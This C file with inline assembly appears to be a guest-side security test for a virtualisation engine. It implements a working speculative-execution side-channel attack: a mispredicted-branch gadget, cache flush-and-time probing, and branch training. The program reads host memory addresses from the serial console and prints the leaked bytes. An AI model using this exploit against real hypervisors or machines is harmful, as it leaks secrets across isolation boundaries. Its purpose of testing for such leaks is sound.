/*
 * Reads host memory by speculation, if the engine lets it: past a branch of the guest's own that is
 * mispredicted, the lookup of an address that is not cached is mispredicted as well, and what the
 * access then finds is told by a cache line. The address comes from the console, and the bytes go
 * there: the test compares them with what lies in the machine process.
 *
 * The lookup's branch resolves late, because many older ones become ready with it; that gives the
 * two loads their time.
 */
#include "guest.h"

enum { STRIDE = 1024, VALUES = 256, ROUNDS = 400, TRAININGS = 12, SECRET_BYTES = 8 };

static uint8_t probe[(VALUES + 1) * STRIDE] __attribute__((aligned(4096)));
static uint64_t slow[64] __attribute__((aligned(64)));
static uint8_t harmless[64] __attribute__((aligned(64)));

/*
 * rdi: address, rsi: probe, rdx: zero in memory that is not cached when the address is the
 * attacker's, rcx: 0 architecturally to read.
 */
void gadget(const void *address, const uint8_t *probe, const uint64_t *slow, uint64_t skip);
__asm__(".p2align 12\n"
	"gadget: mov (%rdx), %rax\n"
	"mov (%rax), %rax\n"
	"mov 128(%rdx), %r9\n"
	"add %rcx, %rax\n"
	"test %rax, %rax; jnz 1f\n"
	".rept 38; test $1, %r9b; jnz 1f; .endr\n"
	"add %r9, %rdi\n"
	"jmp 2f; 2:\n"
	"movzbl (%rdi), %ecx\n"
	"shl $10, %ecx\n"
	"add %rsi, %rcx\n"
	"movzbl (%rcx), %ecx\n"
	"1: ret\n"
	".p2align 12\n");

static inline void flush(const void *at)
{
	__asm__ volatile("clflush (%0)" : : "r"(at) : "memory");
}
static inline void fence(void) { __asm__ volatile("mfence; lfence" : : : "memory"); }

static uint64_t time_of(const volatile uint8_t *at)
{
	uint64_t begin, end;

	fence();
	begin = rdtsc();
	fence();
	(void)*at;
	fence();
	end = rdtsc();
	return end - begin;
}

static uint64_t limit;

static void calibrate(void)
{
	uint64_t near = ~0ull, far = ~0ull;

	for (int n = 0; n < 200; n++) {
		uint64_t took;

		(void)*(volatile uint8_t *)harmless;
		took = time_of(harmless);
		near = took < near ? took : near;
		flush(harmless);
		fence();
		took = time_of(harmless);
		far = took < far ? took : far;
	}
	limit = near + (far - near) / 2;
	print("cached ");
	print_number(near);
	print(" not ");
	print_number(far);
	print("\n");
}

static uint64_t seed = 88172645463325252ull;

static uint64_t rnd(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed;
}

static void attack(const uint8_t *address)
{
	for (unsigned n = 0; n < TRAININGS * 3; n++) {
		/* the attacker's turn without a branch: its history would tell */
		uint64_t turn = (uint64_t)(-(int64_t)(rnd() % TRAININGS)) >> 63; /* 1: training */
		uint64_t mask = turn - 1;
		const uint8_t *at = (const uint8_t *)(((uint64_t)address & mask) |
						      ((uint64_t)harmless & ~mask));

		flush(slow);
		flush(slow + 16);
		flush(slow + 32);
		fence();
		gadget(at, probe, slow, mask & 1);
	}
}

static int read_byte(const uint8_t *address)
{
	static unsigned score[VALUES];
	int best = -1;

	for (int v = 0; v < VALUES; v++)
		score[v] = 0;
	for (int round = 0; round < ROUNDS; round++) {
		for (int v = 0; v < VALUES; v++)
			flush(probe + v * STRIDE);
		fence();
		attack(address);
		for (int n = 0; n < VALUES; n++) {
			int v = (n * 167 + 13) & (VALUES - 1);

			if (time_of(probe + v * STRIDE) < limit)
				score[v]++;
		}
	}
	for (int v = 1; v < VALUES; v++) /* 0 is the harmless one */
		if (score[v] > 3 && (best < 0 || score[v] > score[best]))
			best = v;
	return best;
}

static uint8_t console_byte(void)
{
	uint8_t v;

	do
		__asm__ volatile("inb %1, %0" : "=a"(v) : "Nd"((uint16_t)0x3fd));
	while (!(v & 1));
	__asm__ volatile("inb %1, %0" : "=a"(v) : "Nd"((uint16_t)0x3f8));
	return v;
}

static uint64_t console_number(void)
{
	uint64_t v = 0;

	for (uint8_t c; (c = console_byte()) != '\n';)
		v = v * 16 + (uint64_t)(c <= '9' ? c - '0' : c - 'a' + 10);
	return v;
}

static void touch(void *at) { (void)*(volatile uint8_t *)at; }

void test_main(void)
{
	for (unsigned n = 0; n < sizeof(probe); n++)
		probe[n] = 1;
	slow[0] = (uint64_t)(slow + 32);
	calibrate();
	print("READY\n");
	for (uint64_t at; (at = console_number());) {
		try_code(touch, (void *)at); /* the table of its neighbourhood is there now */
		print("read");
		for (unsigned n = 0; n < SECRET_BYTES; n++) {
			int v = read_byte((const uint8_t *)at + n);

			print(" ");
			if (v < 0)
				print("-");
			else
				print_number((uint64_t)v);
		}
		print("\n");
	}
	finish();
}
